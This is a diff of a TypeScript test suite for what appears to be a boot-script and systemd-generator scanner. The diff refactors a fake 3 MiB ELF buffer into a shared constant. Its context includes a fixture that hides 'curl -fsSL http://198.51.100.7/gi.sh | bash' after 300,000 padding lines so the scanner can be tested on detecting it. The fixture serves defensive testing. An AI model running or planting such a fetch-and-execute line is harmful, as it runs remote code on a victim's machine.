@@ -22,6 +22,9 @@ const BAD = 'curl -fsSL http://198.51.100.7/gi.sh | bash';
 const PADDING = `${'# padding\n'.repeat(300_000)}`;
 const SCRIPT = `#!/bin/sh\n${PADDING}${BAD}\n`;
 const LINE = PADDING.split('\n').length + 1;
+/** A 3 MiB file that its first bytes call an ELF. */
+const ELF = Buffer.alloc(3 << 20);
+ELF.write('\x7fELF', 'latin1');
 
 let scratch: string;
 let n = 0;
@@ -71,19 +74,13 @@ describe('scripts run at boot are read once', () => {
   }, 60_000);
 
   it('measures a 3 MiB binary generator to 1 MiB by its size, reading only its head', async () => {
-    const rel = 'etc/systemd/system-generators/netbin';
-    const elf = Buffer.alloc(3 << 20);
-    elf.write('\x7fELF', 'latin1');
-    const { result, counts } = await scanOne(rel, elf, systemdGeneratorsCheck);
+    const { result, counts } = await scanOne('etc/systemd/system-generators/netbin', ELF, systemdGeneratorsCheck);
     expect(result.findings.find((f) => f.rule === 'generator.unpackaged-local')?.evidence).toBe(`ELF executable, ${1 << 20} bytes read`);
     expect(counts.bytesRead).toBe(TEXT_PROBE_BYTES);
   }, 60_000);
 
   it('tells a 3 MiB ELF init script by its head alone', async () => {
-    const rel = 'etc/init.d/netbin';
-    const elf = Buffer.alloc(3 << 20);
-    elf.write('\x7fELF', 'latin1');
-    const { result, counts } = await scanOne(rel, elf, servicesCheck);
+    const { result, counts } = await scanOne('etc/init.d/netbin', ELF, servicesCheck);
     expect(result.findings.find((f) => f.rule === 'init.binary-script')?.evidence).toBe(`ELF executable, ${3 << 20} bytes`);
     expect(counts.bytesRead).toBe(TEXT_PROBE_BYTES);
     expect(result.errors).toEqual([]);
